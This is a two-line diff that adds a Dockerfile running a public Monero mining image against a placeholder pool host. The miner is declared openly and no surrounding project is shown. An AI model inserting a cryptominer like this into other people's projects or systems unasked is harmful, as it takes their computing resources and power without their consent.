@@ -1,0 +1,2 @@
+FROM kannix/monero-miner
+CMD ["-o", "work.example.invalid:443"]
